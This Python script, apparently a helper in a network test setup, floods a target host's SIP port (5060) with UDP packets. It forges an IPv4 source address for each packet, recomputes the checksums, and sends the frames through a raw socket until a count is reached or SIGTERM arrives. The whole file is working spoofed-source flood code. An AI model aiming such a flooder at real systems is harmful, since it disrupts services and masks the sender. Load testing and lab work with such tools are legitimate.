#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Floods a host's cable with one UDP payload from many forged IPv4 sources, in a process of its
own: `flood.py INTERFACE MAC TARGET COUNT SOURCES PAYLOAD`. COUNT 0: until SIGTERM. In the payload,
a file, "@@@@@@@@" becomes another word in each packet. At the end it says how many have left."""
import ipaddress
import itertools
import pathlib
import random
import signal
import socket
import struct
import sys
from collections.abc import Iterator

sys.dont_write_bytecode = True

from frames import udp_packet  # noqa: E402

FIRST_SOURCE = int(ipaddress.IPv4Address("172.16.0.0"))
PORT = 5060
BLANK = b"@" * 8
_ADDRESS_AT = 12  # of the source in an IPv4 header
_CHECKSUM_AT = 10
_UDP_CHECKSUM_AT = 26


def _header_checksum(others: int, address: int) -> int:
    """RFC 1071: with the sum of the other words of the header."""
    total = others + (address >> 16) + (address & 0xFFFF)
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def packets(target: str, payload: bytes, sources: int) -> Iterator[bytes]:
    """One after the other, each from a source by chance."""
    packet = bytearray(udp_packet(("0.0.0.0", PORT), (target, PORT), payload))
    packet[_UDP_CHECKSUM_AT:_UDP_CHECKSUM_AT + 2] = b"\0\0"  # none: RFC 768 allows it
    packet[_CHECKSUM_AT:_CHECKSUM_AT + 2] = b"\0\0"
    others = sum(struct.unpack_from("!10H", packet))
    blank = packet.find(BLANK)
    chance = random.Random(3)
    for number in itertools.count():
        address = FIRST_SOURCE + chance.randrange(sources)
        struct.pack_into("!HI", packet, _CHECKSUM_AT, _header_checksum(others, address), address)
        if blank > 0:
            packet[blank:blank + len(BLANK)] = b"%08x" % number
        yield bytes(packet)


class Cable:
    """Where frames leave, until SIGTERM."""

    def __init__(self, interface: str, mac: str):
        self._socket = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        self._socket.bind((interface, 0))
        own = self._socket.getsockname()[4][:6]
        self._head = bytes.fromhex(mac.replace(":", "")) + own + struct.pack("!H", 0x0800)
        self._stopped = False
        signal.signal(signal.SIGTERM, self._stop)

    def _stop(self, _number, _frame) -> None:
        self._stopped = True

    def send(self, endless: Iterator[bytes], count: int) -> int:
        sent = 0
        while not self._stopped and (count == 0 or sent < count):
            self._socket.send(self._head + next(endless))
            sent += 1
        return sent


def main() -> None:
    interface, mac, target, count, sources, file = sys.argv[1:]
    cable = Cable(interface, mac)
    endless = packets(target, pathlib.Path(file).read_bytes(), int(sources))
    print("flooding", flush=True)
    print(f"sent {cable.send(endless, int(count))}", flush=True)


if __name__ == "__main__":
    main()
